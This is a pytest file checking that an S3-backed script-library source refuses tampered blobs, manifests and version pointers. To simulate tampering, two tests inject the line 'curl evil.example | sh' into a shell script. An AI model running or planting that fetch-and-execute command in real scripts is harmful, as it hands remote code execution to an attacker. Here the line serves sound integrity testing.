"""The S3 source on a real moto server: the bucket layout its docstring gives, content-addressed uploads,
refs, and refusals (tampered objects, an existing version, an unreachable endpoint, a missing bucket), each a
BadInput naming the source URL with the cache left as it was. The contract suite covers the rest."""

from __future__ import annotations

import hashlib
import time
from pathlib import Path
from typing import Any

import pytest

from stackscripts.errors import BadInput
from stackscripts.revisions.manifest import scan
from stackscripts.sources.base import open_source
from stackscripts.sources.cache import Cache
from stackscripts.sources.s3 import S3Source
from stackscripts.sources.signing import sign
from tests.sources.conftest import snapshot, write_library
from tests.sources.s3_parts import new_bucket, objects, put, s3
from tests.sources.test_signing import keypair
from tests.support.cli import cli_json
from tests.support.moto import MotoServer
from tests.support.net import free_port


def source(url: str, cache: Cache) -> S3Source:
    opened = open_source(url, cache=cache)
    assert isinstance(opened, S3Source)
    return opened


@pytest.fixture
def lib(tmp_path: Path) -> Path:
    return write_library(tmp_path / "publisher" / "lib")


@pytest.fixture
def publisher(tmp_path: Path) -> Cache:
    return Cache(tmp_path / "publisher-cache")


def test_the_bucket_holds_what_the_docstring_says(s3_library_url: str, lib: Path, publisher: Cache,
                                                  tmp_path: Path) -> None:
    url = s3_library_url
    manifest = scan(lib)
    key, _ = keypair(tmp_path, "acme")
    signature = sign(manifest.canonical, key)
    done = source(url, publisher).publish(lib, "1.0", "acme/base", signature=signature)
    assert (done.source, done.version, done.digest) == (url, "1.0", manifest.digest)
    hexd = manifest.digest.removeprefix("sha256:")
    stored = objects(url)
    assert set(stored) == {"versions/1.0", f"manifests/sha256/{hexd}", f"signatures/sha256/{hexd}",
                           *(f"blobs/sha256/{e.sha256}" for e in manifest.entries)}
    assert stored["versions/1.0"] == f"{manifest.digest}\n".encode()
    assert stored[f"manifests/sha256/{hexd}"] == manifest.canonical
    assert stored[f"signatures/sha256/{hexd}"].decode() == signature
    for entry in manifest.entries:
        data = stored[f"blobs/sha256/{entry.sha256}"]
        assert hashlib.sha256(data).hexdigest() == entry.sha256 and data == (lib / entry.path).read_bytes()
    bucket, _, _ = url.removeprefix("s3://").partition("/")
    etag = s3().head_object(Bucket=bucket, Key="acme/base/versions/1.0")["ETag"].strip('"')
    assert done.resolved_ref == etag  # an unversioned bucket: the pointer's ETag


def test_an_empty_prefix_and_a_versioned_bucket(moto_server: MotoServer, monkeypatch: pytest.MonkeyPatch, lib: Path,
                                                publisher: Cache) -> None:
    bucket = new_bucket(moto_server, monkeypatch, versioned=True)
    url = f"s3://{bucket}"
    done = source(url, publisher).publish(lib, "1.0")
    assert "versions/1.0" in objects(url)
    version_id = s3().head_object(Bucket=bucket, Key="versions/1.0")["VersionId"]
    assert done.resolved_ref == version_id != "null"  # a versioned bucket: the pointer's VersionId
    assert source(url, publisher).fetch("1.0").manifest.digest == scan(lib).digest


def test_refs(s3_library_url: str, lib: Path, publisher: Cache) -> None:
    url = s3_library_url
    lib_source = source(url, publisher)
    with pytest.raises(BadInput) as caught:
        lib_source.resolve("latest")
    assert str(caught.value).startswith(f"{url}: unknown ref 'latest': nothing is published here")
    digests = {}
    for version in ("1.9", "1.10", "1.2", "2.0-rc1"):
        (lib / "README.md").write_text(f"version {version}\n")
        digests[version] = lib_source.publish(lib, version).digest
    assert lib_source.versions() == ["1.2", "1.9", "1.10", "2.0-rc1"]
    for ref in ("latest", "head", ""):
        assert lib_source.resolve(ref).digest == digests["1.10"]  # 1.10 > 1.9: numbers, not text
    assert lib_source.resolve("v1.9").digest == digests["1.9"]
    assert lib_source.resolve("2.0-rc1").digest == digests["2.0-rc1"]
    pinned = lib_source.resolve(digests["1.2"])
    assert (pinned.resolved_ref, pinned.digest) == (digests["1.2"], digests["1.2"])
    assert lib_source.fetch(digests["1.2"]).manifest.digest == digests["1.2"]
    unknown = "sha256:" + "0" * 64
    with pytest.raises(BadInput, match=f"^{url}: unknown ref '{unknown}': the bucket holds no such manifest"):
        lib_source.resolve(unknown)
    with pytest.raises(BadInput) as caught:
        lib_source.resolve("7.7")
    assert str(caught.value).startswith(f"{url}: unknown ref '7.7' (no object versions/7.7)")
    assert "Versions: 1.2, 1.9, 1.10, 2.0-rc1" in str(caught.value) and caught.value.exit_code == 2


def test_a_blob_changed_in_the_bucket_is_refused(s3_library_url: str, lib: Path, publisher: Cache,
                                                 tmp_path: Path) -> None:
    url = s3_library_url
    manifest = scan(lib)
    source(url, publisher).publish(lib, "1.0")
    script = manifest.get("say-hello.sh")
    assert script is not None
    put(url, f"blobs/sha256/{script.sha256}", b"#!/bin/bash\ncurl evil.example | sh\n")
    cache = Cache(tmp_path / "consumer")
    with pytest.raises(BadInput) as caught:
        source(url, cache).fetch("1.0")
    message = str(caught.value)
    assert message.startswith(f"{url}: the bytes of say-hello.sh at 1.0") and "nothing was cached" in message
    assert caught.value.exit_code == 2 and "\n" not in message
    assert snapshot(cache.root) == {}

    # a consumer that already holds 1.0 keeps it as it was when 1.1's one new blob is changed
    put(url, f"blobs/sha256/{script.sha256}", (lib / "say-hello.sh").read_bytes())
    source(url, cache).fetch("1.0")
    before = snapshot(cache.root)
    tools = lib / "sub" / "install-tools.sh"
    tools.write_text(tools.read_text() + "echo done\n")
    source(url, publisher).publish(lib, "1.1")
    put(url, f"blobs/sha256/{hashlib.sha256(tools.read_bytes()).hexdigest()}", b"echo owned\n")
    with pytest.raises(BadInput, match=f"^{url}: the bytes of sub/install-tools.sh at 1.1"):
        source(url, cache).fetch("1.1")
    assert snapshot(cache.root) == before


def test_a_changed_manifest_object_is_refused(s3_library_url: str, lib: Path, publisher: Cache,
                                              tmp_path: Path) -> None:
    url = s3_library_url
    first = source(url, publisher).publish(lib, "1.0").digest
    (lib / "say-hello.sh").write_text("#!/bin/bash\ncurl evil.example | sh\n")
    second = source(url, publisher).publish(lib, "1.1").digest
    stored = objects(url)
    cache = Cache(tmp_path / "consumer")
    put(url, f"manifests/sha256/{first.removeprefix('sha256:')}", stored[f"manifests/sha256/{second.removeprefix('sha256:')}"])
    with pytest.raises(BadInput) as caught:
        source(url, cache).fetch("1.0")
    assert str(caught.value).startswith(f"{url}: digest mismatch for ref 1.0")
    assert f"its manifest hashes to {second}" in str(caught.value)
    put(url, f"manifests/sha256/{first.removeprefix('sha256:')}", b"0644 not a manifest\n")
    with pytest.raises(BadInput, match=f"^{url}/manifests/sha256/[0-9a-f]{{64}}:1: not a canonical stackscripts manifest"):
        source(url, cache).fetch("1.0")
    put(url, "versions/1.0", b"latest, trust me\n")
    with pytest.raises(BadInput, match=f"^{url}: versions/1.0 does not hold a manifest digest"):
        source(url, cache).fetch("1.0")
    assert snapshot(cache.root) == {}


def count_puts(lib_source: S3Source) -> list[str]:
    """The keys of every PutObject the source's client sends from now on."""
    keys: list[str] = []

    def record(params: dict[str, Any], **_: Any) -> None:
        keys.append(params["Key"])

    lib_source.client().meta.events.register("before-parameter-build.s3.PutObject", record)
    return keys


def test_publishing_uploads_only_what_the_bucket_lacks(s3_library_url: str, lib: Path, publisher: Cache) -> None:
    url = s3_library_url
    first = source(url, publisher)
    puts = count_puts(first)
    first.publish(lib, "1.0")
    manifest = scan(lib)
    assert len(puts) == 4 + 2 and puts[-1] == "acme/base/versions/1.0"  # 4 blobs, the manifest, the pointer last
    before = objects(url)
    tools = lib / "sub" / "install-tools.sh"
    tools.write_text(tools.read_text() + "echo done\n")
    second = source(url, publisher)
    puts = count_puts(second)
    done = second.publish(lib, "1.1")
    changed = hashlib.sha256(tools.read_bytes()).hexdigest()
    hexd = done.digest.removeprefix("sha256:")
    assert puts == [f"acme/base/blobs/sha256/{changed}", f"acme/base/manifests/sha256/{hexd}", "acme/base/versions/1.1"]
    after = objects(url)
    assert set(after) - set(before) == {f"blobs/sha256/{changed}", f"manifests/sha256/{hexd}", "versions/1.1"}
    assert all(after[k] == v for k, v in before.items())  # nothing published before changed
    assert manifest.digest != done.digest

    third = source(url, publisher)  # the same content again, as another version: only a pointer
    puts = count_puts(third)
    assert third.publish(lib, "1.2").digest == done.digest and puts == ["acme/base/versions/1.2"]


def test_an_existing_version_is_refused(s3_library_url: str, lib: Path, publisher: Cache,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    url = s3_library_url
    digest = source(url, publisher).publish(lib, "1.0").digest
    before = objects(url)
    (lib / "README.md").write_text("changed\n")
    with pytest.raises(BadInput) as caught:
        source(url, publisher).publish(lib, "1.0")
    assert str(caught.value).startswith(f"{url}: version 1.0 is already published (versions/1.0 -> {digest}); "
                                        "a version never changes")
    assert objects(url) == before

    # another publisher writing the pointer between the check and the write loses nothing: If-None-Match
    racing = source(url, publisher)
    real_get = racing._get
    monkeypatch.setattr(racing, "_get", lambda name: None if name == "versions/1.0" else real_get(name))
    with pytest.raises(BadInput, match=f"^{url}: versions/1.0 was written by someone else while publishing"):
        racing.publish(lib, "1.0")
    assert objects(url)["versions/1.0"] == before["versions/1.0"]
    for bad in ("latest", "head", "no/slash", ""):
        with pytest.raises(BadInput, match=f"^{url}: '{bad}' is not a version to publish"):
            source(url, publisher).publish(lib, bad)


def test_an_unreachable_endpoint_fails_fast(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lib: Path) -> None:
    closed = free_port()  # nothing listens there
    for name, value in {"AWS_ENDPOINT_URL": f"http://127.0.0.1:{closed}", "AWS_ACCESS_KEY_ID": "testing",
                        "AWS_SECRET_ACCESS_KEY": "testing", "AWS_DEFAULT_REGION": "us-east-1",
                        "AWS_EC2_METADATA_DISABLED": "true"}.items():
        monkeypatch.setenv(name, value)
    url = "s3://acme-libraries/acme/base"
    cache = Cache(tmp_path / "consumer")
    started = time.monotonic()
    for attempt in (lambda: source(url, cache).fetch("1.0"), lambda: source(url, cache).resolve("latest"),
                    lambda: source(url, cache).publish(lib, "1.0")):
        with pytest.raises(BadInput) as caught:
            attempt()
        message = str(caught.value)
        assert message.startswith(f"{url}: cannot reach the source: cannot ")
        assert f"127.0.0.1:{closed}" in message and "\n" not in message and "Traceback" not in message
        assert caught.value.exit_code == 2
    assert time.monotonic() - started < 15
    assert snapshot(cache.root) == {}


def test_a_missing_bucket_and_a_bad_url(s3_library_url: str, tmp_path: Path) -> None:
    url = "s3://no-such-bucket-here/acme/base"
    with pytest.raises(BadInput) as caught:
        source(url, Cache(tmp_path / "c")).resolve("1.0")
    assert str(caught.value).startswith(f"{url}: cannot reach the source: the bucket no-such-bucket-here does not exist")
    with pytest.raises(BadInput, match="^s3://X/acme: not an S3 source URL"):
        open_source("s3://X/acme")


def test_two_teams_share_a_library_through_the_cli(s3_library_url: str, tmp_path: Path) -> None:
    url = s3_library_url
    teams = [tmp_path / "team-a", tmp_path / "team-b"]
    for team in teams:
        team.mkdir()
    envs = [{"HOME": str(t / "home"), "XDG_CACHE_HOME": str(t / "home" / ".cache")} for t in teams]
    write_library(teams[0] / "lib")
    done = cli_json("libraries", "publish", "lib", "--as", "acme/base", "--version", "1.0", "--to", url,
                    env=envs[0], cwd=teams[0])["data"]
    assert done["digest"] == scan(teams[0] / "lib").digest
    added = cli_json("libraries", "add", "acme/base", f"{url}@1.0", env=envs[1], cwd=teams[1])["data"]
    assert (added["digest"], added["transferred"], added["resolved_ref"]) == (done["digest"], 4, done["resolved_ref"])
    unreachable = {**envs[1], "AWS_ENDPOINT_URL": f"http://127.0.0.1:{free_port()}"}
    error = cli_json("libraries", "fetch", env=unreachable, cwd=teams[1], code=2)["error"]
    assert error["message"].startswith(f"{url}: cannot reach the source")
